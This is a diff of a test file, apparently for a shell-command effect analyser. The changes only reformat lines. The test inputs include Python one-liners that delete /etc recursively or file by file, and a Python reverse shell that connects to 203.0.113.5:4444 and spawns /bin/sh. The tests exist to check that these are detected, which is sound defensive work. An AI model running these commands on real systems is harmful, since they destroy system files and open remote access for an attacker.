@@ -32,9 +32,9 @@ describe('deletes', () => {
 
   test('a heredoc, and a loop over names', () => {
     expect(effectsOf("python3 - <<'E'\nimport shutil\nshutil.rmtree('/etc')\nE")).toContain(ETC)
-    expect(effectsOf(`python3 -c ${quoted('import os, glob\nfor f in glob.glob("/etc/*"):\n    os.remove(f)')}`)).toContain(
-      'delete system /etc/*',
-    )
+    expect(
+      effectsOf(`python3 -c ${quoted('import os, glob\nfor f in glob.glob("/etc/*"):\n    os.remove(f)')}`),
+    ).toContain('delete system /etc/*')
   })
 })
 
@@ -60,7 +60,8 @@ test('a path that is not known says nothing, one that is partly known does', () 
 })
 
 test('a shell on a socket', () => {
-  const code = 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
+  const code =
+    'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
   const { effects } = understood(`python3 -c ${quoted(code)}`)
   expect(effects.some(effect => effect.details.reverse_shell === true)).toBe(true)
 })
